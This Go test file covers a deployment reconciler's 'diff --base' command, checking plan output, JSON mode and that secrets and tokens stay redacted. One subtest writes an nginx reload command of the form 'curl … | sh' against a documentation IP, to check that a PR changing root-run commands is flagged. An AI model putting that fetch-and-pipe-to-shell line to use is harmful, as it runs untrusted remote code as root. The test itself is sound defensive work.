package main

import (
	"bytes"
	"context"
	"encoding/json"
	"strings"
	"testing"

	"github.com/developer-mesh/reconciler/internal/testenv"
)

// previewEnv is an env file for diff --base tests; the fields vary by case.
func previewEnv(image, secretRef, apiListen string, worker bool) string {
	s := `environment: preview
services:
  api:
    image: ` + image + `
    containerPort: 8080
    listen: "` + apiListen + `"
    serverName: api.example.com
    env:
      MODE: fast
    secrets:
      DB_PASSWORD: ` + secretRef + `
    files:
      - source: config/api.yaml
        target: /app/config.yaml
`
	if worker {
		s += `  worker:
    image: ghcr.io/acme/worker:v1
`
	}
	return s
}

func runCLI(t *testing.T, args ...string) (int, string, string) {
	t.Helper()
	var out, errb bytes.Buffer
	code := run(context.Background(), args, &out, &errb)
	return code, out.String(), errb.String()
}

// TestDiffBase compares two commits of a real repository: what a PR changes,
// without a host and without secrets.
func TestDiffBase(t *testing.T) {
	r := testenv.NewRepo(t)
	r.Write("config/api.yaml", "a: 1\n")
	r.Write("envs/preview.yaml", previewEnv("ghcr.io/acme/api:v1", "ssm:/acme/preview/db", "8080", true))
	base := r.Commit("base")
	r.Git("branch", "base")

	t.Run("same state", func(t *testing.T) {
		code, out, errOut := runCLI(t, "diff", "--env", "preview", "--repo", r.Dir, "--base", "base")
		if code != 0 {
			t.Fatalf("exit %d, want 0\n%s%s", code, out, errOut)
		}
		if !strings.Contains(out, "in sync") || !strings.Contains(out, "compared by their references only") {
			t.Errorf("output:\n%s", out)
		}
	})

	r.Write("config/api.yaml", "a: 2\n")
	r.Write("envs/preview.yaml", previewEnv("ghcr.io/acme/api:v2", "ssm:/acme/preview/db2", "8081", false))
	r.Commit("change image, secret ref, config, listen; drop worker")

	t.Run("changes", func(t *testing.T) {
		code, out, errOut := runCLI(t, "diff", "--env", "preview", "--repo", r.Dir, "--base", base)
		if code != 2 {
			t.Fatalf("exit %d, want 2\n%s%s", code, out, errOut)
		}
		for _, want := range []string{
			"ghcr.io/acme/api:v2: not on the host",
			"~ api: replace blue → green",
			"image ghcr.io/acme/api:v1 → ghcr.io/acme/api:v2",
			"secret DB_PASSWORD changed",
			"file /app/config.yaml changed",
			"switch api → green",
			"- worker: remove blue",
		} {
			if !strings.Contains(out, want) {
				t.Errorf("output lacks %q:\n%s", want, out)
			}
		}
		if strings.Contains(out, "ssm:/acme") || strings.Contains(out, "reference:") {
			t.Errorf("output shows a secret reference or placeholder:\n%s", out)
		}
	})

	t.Run("json", func(t *testing.T) {
		code, out, errOut := runCLI(t, "diff", "--env", "preview", "--repo", r.Dir, "--base", "base", "-o", "json")
		if code != 2 {
			t.Fatalf("exit %d, want 2\n%s%s", code, out, errOut)
		}
		var p planJSON
		if err := json.Unmarshal([]byte(out), &p); err != nil {
			t.Fatalf("stdout is not the JSON plan: %v\n%s", err, out)
		}
		if p.InSync || len(p.Changes) == 0 || !strings.Contains(errOut, "compared by their references only") {
			t.Errorf("plan %+v, stderr %q", p, errOut)
		}
	})

	t.Run("new env", func(t *testing.T) {
		r2 := testenv.NewRepo(t)
		r2.Write("README", "x\n")
		r2.Commit("empty")
		r2.Write("config/api.yaml", "a: 1\n")
		r2.Write("envs/preview.yaml", previewEnv("ghcr.io/acme/api:v1", "ssm:/x", "8080", false))
		r2.Commit("add env")
		code, out, errOut := runCLI(t, "diff", "--env", "preview", "--repo", r2.Dir, "--base", "HEAD~1")
		if code != 2 || !strings.Contains(out, "+ api: create blue") {
			t.Fatalf("exit %d, want 2 and a create\n%s%s", code, out, errOut)
		}
	})

	t.Run("url", func(t *testing.T) {
		code, out, errOut := runCLI(t, "diff", "--env", "preview", "--repo", "file://"+r.Dir, "--ref", "main", "--base", "base")
		if code != 2 || !strings.Contains(out, "~ api: replace blue → green") {
			t.Fatalf("exit %d, want 2\n%s%s", code, out, errOut)
		}
	})

	t.Run("host settings only", func(t *testing.T) {
		// A PR that changes only the commands nginx runs as root, and
		// adds a notify receiver, is not "in sync" (issue 14, finding 1).
		r3 := testenv.NewRepo(t)
		r3.Write("config/api.yaml", "a: 1\n")
		env := previewEnv("ghcr.io/acme/api:v1", "ssm:/x", "8080", false)
		r3.Write("envs/preview.yaml", env)
		r3.Commit("base")
		r3.Write("envs/preview.yaml", env+"nginx:\n  reload: curl -s http://198.51.100.7/x | sh\nnotify:\n  - url: https://hooks.example.com/T0/SECRETTOKEN\n")
		r3.Commit("reload and notify")
		code, out, errOut := runCLI(t, "diff", "--env", "preview", "--repo", r3.Dir, "--base", "HEAD~1")
		if code != 2 || !strings.Contains(out, `nginx.reload: "nginx -s reload" → "curl -s http://198.51.100.7/x | sh"`) ||
			!strings.Contains(out, `notify[0].url: "https://hooks.example.com/…"`) {
			t.Fatalf("exit %d, want 2 naming nginx.reload and the notify URL\n%s%s", code, out, errOut)
		}
		if strings.Contains(out+errOut, "SECRETTOKEN") {
			t.Fatalf("output shows the notify URL's token:\n%s%s", out, errOut)
		}
		code, out, _ = runCLI(t, "diff", "--env", "preview", "--repo", r3.Dir, "--base", "HEAD~1", "-o", "json")
		if code != 2 || strings.Contains(out, `"inSync": true`) || strings.Contains(out, "SECRETTOKEN") {
			t.Fatalf("json: exit %d\n%s", code, out)
		}
	})

	t.Run("bad base", func(t *testing.T) {
		code, out, errOut := runCLI(t, "diff", "--env", "preview", "--repo", r.Dir, "--base", "no-such-branch")
		if code != 1 || !strings.Contains(errOut, "--base") {
			t.Fatalf("exit %d, want 1 naming --base\n%s%s", code, out, errOut)
		}
	})
}
